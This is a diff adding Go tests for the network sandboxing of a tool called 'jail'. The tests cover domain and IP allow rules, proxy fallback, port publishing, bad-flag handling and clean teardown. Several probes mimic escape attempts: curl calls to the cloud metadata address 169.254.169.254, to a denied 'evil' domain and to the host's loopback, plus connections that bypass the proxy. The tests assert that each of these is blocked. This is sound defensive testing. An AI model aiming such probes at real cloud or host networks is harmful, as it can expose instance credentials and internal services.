+		netCurl("meta", netURL(meta, f.http, "/")),
+		netCurl("meta-raw", netURL("169.254.169.254", f.http, "/")),
+	}
+	r := netRun(t, base, probes...)
+	mustCode(t, r.result, 0)
+	r.refused(t, "loop", fmt.Sprintf("%s:%d", loop, f.hostLoop))
+	r.refused(t, "own", fmt.Sprintf("%s:%d", own, ownPort))
+	r.refused(t, "meta", fmt.Sprintf("%s:%d", meta, f.http))
+	r.refused(t, "meta-raw", fmt.Sprintf("169.254.169.254:%d", f.http))
+
+	// The explicit IP rule opens exactly that address and port.
+	r = netRun(t, netFlags(base, []string{"--allow-ip", fmt.Sprintf("127.0.0.1/32:%d", f.hostLoop)}),
+		netCurl("loop", netURL(loop, f.hostLoop, "/")),
+		netCurl("loop-other", netURL(loop, f.hostOther, "/")),
+	)
+	mustCode(t, r.result, 0)
+	r.ok(t, "loop")
+	r.refused(t, "loop-other", fmt.Sprintf("%s:%d", loop, f.hostOther))
+}
+
+// --allow-host-port reaches exactly that port of the host's loopback as
+// host.jail.internal; nothing else on the host's loopback is reachable.
+func TestNetAllowHostPort(t *testing.T) {
+	f := netFixture(t)
+	netControl(t, "other host loopback port", netHostCurl(t, netURL("127.0.0.1", f.hostOther, "/")))
+	ownPort := netLocalHTTP(t, "0.0.0.0:0")
+	netControl(t, "host own address", netHostCurl(t, netURL(f.hostIP4, ownPort, "/")))
+	r := netRun(t, []string{"--allow-host-port", strconv.Itoa(f.hostLoop)},
+		netCurl("hostport", netURL("host.jail.internal", f.hostLoop, "/")),
+		netCurl("other-port", netURL("host.jail.internal", f.hostOther, "/")),
+		netCurl("lo-direct", netURL("127.0.0.1", f.hostLoop, "/")),
+		netCurl("own-addr", netURL(f.hostIP4, ownPort, "/")),
+		netProbe{"other-name-nx", `getent hosts localhost.jailtest.example; [ $? -eq 2 ]`},
+	)
+	mustCode(t, r.result, 0)
+	r.ok(t, "hostport")
+	r.refused(t, "other-port", fmt.Sprintf("host.jail.internal:%d", f.hostOther))
+	r.refused(t, "lo-direct", "")
+	r.refused(t, "own-addr", fmt.Sprintf("%s:%d", f.hostIP4, ownPort))
+	r.ok(t, "other-name-nx")
+}
+
+// A denied flow prints exactly one line on stderr; --quiet silences it.
+func TestNetBlockedMessageAndQuiet(t *testing.T) {
+	f := netFixture(t)
+	flags := netFlags([]string{"--allow-domain", fmt.Sprintf("%s:%d", netAPI, f.http)}, f.pin(netAPI), f.ipFlags(f.http))
+	r := netRun(t, flags, netCurl("blocked", netURL(netAPI, f.alt, "/")))
+	mustCode(t, r.result, 0)
+	line := fmt.Sprintf("jail: blocked connect to %s:%d (", netAPI, f.alt)
+	r.refused(t, "blocked", strings.TrimPrefix(line, "jail: blocked connect to "))
+	if n := strings.Count(r.stderr, line); n != 1 {
+		t.Errorf("want exactly one %q line for one connect, got %d", line, n)
+	}
+	r = netRun(t, append([]string{"--quiet"}, flags...), netCurl("blocked", netURL(netAPI, f.alt, "/")))
+	mustCode(t, r.result, 0)
+	r.refused(t, "blocked", "")
+	if strings.Contains(r.stderr, "blocked connect") {
+		t.Errorf("--quiet still prints blocked connects:\n%s", r.stderr)
+	}
+}
+
+// 200 connections open at the same time through the proxy all work.
+func TestNetConcurrent200(t *testing.T) {
+	f := netFixture(t)
+	r := netRun(t, netFlags([]string{"--allow-domain", netAPI}, f.pin(netAPI), f.ipFlags(f.http)),
+		netPy("conc", netPyConc, netAPI, strconv.Itoa(f.http), "200"))
+	mustCode(t, r.result, 0)
+	r.ok(t, "conc")
+	if !strings.Contains(r.out["conc"], "ok 200 of 200") {
+		t.Errorf("concurrent: %q", r.out["conc"])
+	}
+}
+
+// The hidden fallback: proxy variables point at jail's HTTP CONNECT/SOCKS5
+// listener; programs that honour them reach allowed names only; programs
+// that ignore them reach nothing; jail warns that egress is proxy-aware.
+func TestNetProxyAwareFallback(t *testing.T) {
+	f := netFixture(t)
+	netControl(t, "raw connect to "+f.rawIP, netHostCurl(t, netURL(f.rawIP, f.http, "/")))
+	flags := netFlags([]string{"--x-force-proxy-aware", "--allow-domain", netAPI}, f.pin(netAPI), f.pinDenied(netEvil), f.ipFlags(f.http, f.https))
+	viaProxy := func(label, url string, extra ...string) netProbe {
+		return netProbe{label, fmt.Sprintf("/usr/bin/curl -sS -k --max-time 10 %s '%s' | grep -q %s", strings.Join(extra, " "), url, netOK)}
+	}
+	r := netRun(t, flags,
+		netProbe{"env", `env | grep -q '^http_proxy=' && env | grep -q '^HTTPS_PROXY='`},
+		viaProxy("http", netURL(netAPI, f.http, "/")),
+		viaProxy("https-connect", netURLs(netAPI, f.https)),
+		viaProxy("socks5", netURL(netAPI, f.http, "/"), `--proxy "socks5h://${ALL_PROXY#*://}"`),
+		viaProxy("evil", netURL(netEvil, f.http, "/")),
+		viaProxy("raw", netURL(f.rawIP, f.http, "/")),
+		netCurl("bypass", netURL(netAPI, f.http, "/")),
+		netCurl("bypass-raw", netURL(f.rawIP, f.http, "/")),
+	)
+	mustCode(t, r.result, 0)
+	r.ok(t, "env")
+	r.ok(t, "http")
+	r.ok(t, "https-connect")
+	r.ok(t, "socks5")
+	r.refused(t, "evil", fmt.Sprintf("%s:%d", netEvil, f.http))
+	r.refused(t, "raw", fmt.Sprintf("%s:%d", f.rawIP, f.http))
+	r.refused(t, "bypass", "")
+	r.refused(t, "bypass-raw", "")
+	if !strings.Contains(strings.ToLower(r.stderr), "proxy-aware") {
+		t.Errorf("no warning that egress is proxy-aware only:\n%s", r.stderr)
+	}
+}
+
+// -p HOSTPORT:PORT: a server inside is reachable from the host's 127.0.0.1
+// only, and an unpublished server inside is not reachable at all.
+func TestNetPublish(t *testing.T) {
+	hostPort, inPort, inOther := netFreePort(t), 18000+os.Getpid()%1000, 19000+os.Getpid()%1000
+	ws := workspace(t)
+	mark := "published-" + marker()
+	script := fmt.Sprintf(`echo %s > pub.txt
+/usr/bin/python3 -m http.server --bind 127.0.0.1 %d >/dev/null 2>&1 &
+/usr/bin/python3 -m http.server --bind 127.0.0.1 %d >/dev/null 2>&1 &
+i=0; while [ ! -e done ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done
+kill %%1 %%2; [ -e done ]`, mark, inPort, inOther)
+	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, jail(t), "-p", fmt.Sprintf("%d:%d", hostPort, inPort), "--", "/bin/sh", "-c", script)
+	cmd.Dir = ws
+	var so, se strings.Builder
+	cmd.Stdout, cmd.Stderr = &so, &se
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	waited := make(chan error, 1)
+	go func() { waited <- cmd.Wait() }()
+	finish := func() error {
+		os.WriteFile(filepath.Join(ws, "done"), nil, 0o644)
+		select {
+		case err := <-waited:
+			return err
+		case <-time.After(30 * time.Second):
+			cmd.Process.Kill()
+			return fmt.Errorf("jail did not exit")
+		}
+	}
+	get := func(addr string) (string, error) {
+		c := http.Client{Timeout: 2 * time.Second}
+		resp, err := c.Get("http://" + addr + "/pub.txt")
+		if err != nil {
+			return "", err
+		}
+		defer resp.Body.Close()
+		b, err := io.ReadAll(resp.Body)
+		return strings.TrimSpace(string(b)), err
+	}
+	var body string
+	var err error
+	deadline := time.Now().Add(20 * time.Second)
+	for time.Now().Before(deadline) {
+		if body, err = get(fmt.Sprintf("127.0.0.1:%d", hostPort)); err == nil && body == mark {
+			break
+		}
+		select {
+		case werr := <-waited:
+			if cmd.ProcessState.ExitCode() == 125 && strings.Contains(se.String(), "not supported") {
+				// Not a hole: without publishing nothing inside is reachable.
+				t.Skipf("--publish not implemented yet: %s", strings.TrimSpace(se.String()))
+			}
+			t.Fatalf("jail exited early (%v)\nstdout:\n%s\nstderr:\n%s", werr, so.String(), se.String())
+		case <-time.After(100 * time.Millisecond):
+		}
+	}
+	if body != mark {
+		finish()
+		t.Fatalf("published port 127.0.0.1:%d: got %q, %v\nstderr:\n%s", hostPort, body, err, se.String())
+	}
+	// Default host address is 127.0.0.1: not on the host's other addresses.
+	if h4, _ := netHostAddrs(); h4 != "" {
+		if b, err := get(fmt.Sprintf("%s:%d", h4, hostPort)); err == nil {
+			t.Errorf("ATTACK WORKED: published port answers on %s:%d (%q); default must be 127.0.0.1 only", h4, hostPort, b)
+		}
+	}
+	// The unpublished server inside is not on the host.
+	if b, err := get(fmt.Sprintf("127.0.0.1:%d", inOther)); err == nil {
+		t.Errorf("ATTACK WORKED: unpublished port %d inside answers on the host (%q)", inOther, b)
+	}
+	if err := finish(); err != nil {
+		t.Errorf("jail: %v\nstdout:\n%s\nstderr:\n%s", err, so.String(), se.String())
+	}
+	// After exit the host port is closed again.
+	if _, err := get(fmt.Sprintf("127.0.0.1:%d", hostPort)); err == nil {
+		t.Errorf("published port %d still open after jail exited", hostPort)
+	}
+}
+
+func netFreePort(t *testing.T) int {
+	t.Helper()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	return netPort(ln.Addr())
+}
+
+// --net host is the host's network, unfiltered, with a warning.
+func TestNetHostMode(t *testing.T) {
+	r := sh(t, runOpts{}, `tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | sort | tr '\n' ,`, "--net", "host")
+	mustCode(t, r, 0)
+	if strings.TrimSpace(r.stdout) == "lo," {
+		t.Errorf("--net host sees only lo")
+	}
+	if strings.TrimSpace(r.stderr) == "" {
+		t.Errorf("--net host gives no warning")
+	}
+	r = sh(t, runOpts{}, `true`, "--net", "host", "--quiet")
+	mustCode(t, r, 0)
+	if strings.TrimSpace(r.stderr) != "" {
+		t.Errorf("--net host --quiet still warns: %q", r.stderr)
+	}
+}
+
+// Bad input is refused with exit 125 and a line naming the flag.
+func TestNetBadInput(t *testing.T) {
+	cases := []struct {
+		name string
+		args []string
+		want string
+	}{
+		{"star", []string{"--allow-domain", "*"}, "allow-domain"},
+		{"star-dot", []string{"--allow-domain", "*."}, "allow-domain"},
+		{"empty-label", []string{"--allow-domain", "a..example"}, "allow-domain"},
+		{"bad-port", []string{"--allow-domain", "example.com:99999"}, "allow-domain"},
+		{"port-zero", []string{"--allow-domain", "example.com:0"}, "allow-domain"},
+		{"inner-star", []string{"--allow-domain", "a.*.example"}, "allow-domain"},
+		{"deny-star", []string{"--allow-domain", "example.com", "--deny-domain", "*"}, "deny-domain"},
+		{"cidr", []string{"--allow-ip", "10.0.0.0/33"}, "allow-ip"},
+		{"cidr-typo", []string{"--allow-ip", "10.0.0/8"}, "allow-ip"},
+		{"add-host", []string{"--allow-domain", "example.com", "--add-host", "example.com"}, "add-host"},
+		{"add-host-ip", []string{"--allow-domain", "example.com", "--add-host", "example.com:1.2.3"}, "add-host"},
+		{"host-port", []string{"--allow-host-port", "70000"}, "allow-host-port"},
+		{"publish", []string{"-p", "nope"}, "publish"},
+		{"with-none", []string{"--allow-domain", "example.com", "--net", "none"}, "--net"},
+		{"with-host", []string{"--allow-domain", "example.com", "--net", "host"}, "--net"},
+		{"ip-with-none", []string{"--net", "none", "--allow-ip", "10.0.0.0/8"}, "--net"},
+		{"bad-mode", []string{"--net", "bridge"}, "--net"},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			r := run(t, runOpts{}, append(c.args, "--", "/bin/true")...)
+			mustCode(t, r, 125)
+			if !strings.Contains(r.stderr, c.want) {
+				t.Errorf("stderr does not name %s: %q", c.want, r.stderr)
+			}
+			if n := strings.Count(strings.TrimSpace(r.stderr), "\n"); n > 3 {
+				t.Errorf("a bad flag deserves a line or two, got:\n%s", r.stderr)
+			}
+		})
+	}
+}
+
+// Teardown: after a --net allow sandbox exits (even leaving a background
+// process inside), no interface, nftables rule, namespace or process of it
+// is left on the host.
+func TestNetTeardownClean(t *testing.T) {
+	f := netFixture(t)
+	snap := func() string {
+		var b strings.Builder
+		out, _ := exec.Command("ip", "-o", "link", "show").Output()
+		var names []string
+		for _, l := range strings.Split(string(out), "\n") {
+			if fs := strings.Fields(l); len(fs) > 1 {
+				names = append(names, fs[1])
+			}
+		}
+		sort.Strings(names)
+		fmt.Fprintf(&b, "links: %v\n", names)
+		if f.root {
+			nft, _ := exec.Command("nft", "list", "ruleset").CombinedOutput()
+			nss, _ := exec.Command("ip", "netns", "list").CombinedOutput()
+			fmt.Fprintf(&b, "nft:\n%s\nnetns:\n%s\n", nft, nss)
+		}
+		return b.String()
+	}
+	before := snap()
+	m := marker()
+	r := netRun(t, netFlags([]string{"--allow-domain", netAPI}, f.pin(netAPI), f.ipFlags(f.http)),
+		netProbe{"bg", "sleep " + m + " >/dev/null 2>&1 & true"},
+		netCurl("http", netURL(netAPI, f.http, "/")),
+	)
+	mustCode(t, r.result, 0)
+	r.ok(t, "http")
+	waitNoProcs(t, m, 5*time.Second)
+	bin, _ := filepath.EvalSymlinks(jail(t))
+	deadline := time.Now().Add(5 * time.Second)
+	var after string
+	var left []string
+	for {
+		after = snap()
+		left = left[:0]
+		ents, _ := os.ReadDir("/proc")
+		for _, e := range ents {
+			if exe, err := os.Readlink("/proc/" + e.Name() + "/exe"); err == nil && exe == bin {
+				left = append(left, e.Name())
+			}
+		}
+		if (after == before && len(left) == 0) || time.Now().After(deadline) {
+			break
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	if after != before {
+		t.Errorf("host network state changed:\nbefore:\n%s\nafter:\n%s", before, after)
+	}
+	if len(left) > 0 {
+		t.Errorf("jail processes survive: %v", left)
+	}
+}
+
+// Measurements (logged, not asserted): 1 GiB download through jail vs direct,
+// and per-request setup overhead and DNS answer time.
+func TestNetMeasure(t *testing.T) {
+	if testing.Short() {
+		t.Skip("measurement; not a security test")
+	}
+	f := netFixture(t)
+	directHost := f.rawIP
+	if !f.root {
+		directHost = "127.0.0.1"
+	}
+	const size = 1 << 30
+	speed := func(s string) float64 {
+		v, _ := strconv.ParseFloat(strings.TrimSpace(s), 64)
+		return v
+	}
+	out, err := exec.Command("/usr/bin/curl", "-sS", "--noproxy", "*", "-o", "/dev/null", "-w", "%{speed_download}",
+		netURL(directHost, f.http, fmt.Sprintf("/bytes?n=%d", size))).Output()
+	if err != nil {
+		t.Fatalf("direct download: %v", err)
+	}
+	direct := speed(string(out))
+	flags := netFlags([]string{"--allow-domain", netAPI}, f.pin(netAPI), f.ipFlags(f.http))
+	r := netRun(t, flags,
+		netProbe{"dl", fmt.Sprintf(`/usr/bin/curl -sS --noproxy '*' -o /dev/null -w '%%{speed_download}' '%s'`, netURL(netAPI, f.http, fmt.Sprintf("/bytes?n=%d", size)))},
+		netPy("lat", netPyLatency, netAPI, "-", strconv.Itoa(f.http), "300"),
+	)
+	mustCode(t, r.result, 0)
+	r.ok(t, "dl")
+	r.ok(t, "lat")
+	jailed := speed(r.out["dl"])
+	t.Logf("1 GiB download: direct %.2f GiB/s, through jail %.2f GiB/s, ratio %.2f", direct/(1<<30), jailed/(1<<30), jailed/direct)
+
+	lat, err := exec.Command("/usr/bin/python3", "-c", netPyLatency, "localhost", directHost, strconv.Itoa(f.http), "300").Output()
+	if err != nil {
+		t.Fatalf("direct latency: %v", err)
+	}
+	parse := func(s string) []float64 {
+		i := strings.Index(s, "RESULT ")
+		if i < 0 {
+			return nil
+		}
+		var v []float64
+		for _, x := range strings.Fields(s[i+7:])[:4] {
+			fv, _ := strconv.ParseFloat(x, 64)
+			v = append(v, fv)
+		}
+		return v
+	}
+	d, j := parse(string(lat)), parse(r.out["lat"])
+	if len(d) == 4 && len(j) == 4 {
+		t.Logf("connect+request: direct p50 %.3f ms p99 %.3f ms; through jail p50 %.3f ms p99 %.3f ms; overhead p50 %.3f ms p99 %.3f ms",
+			d[0], d[1], j[0], j[1], j[0]-d[0], j[1]-d[1])
+		t.Logf("DNS answer inside jail: p50 %.3f ms p99 %.3f ms", j[2], j[3])
+	} else {
+		t.Errorf("latency output: direct %q jailed %q", lat, r.out["lat"])
+	}
+}
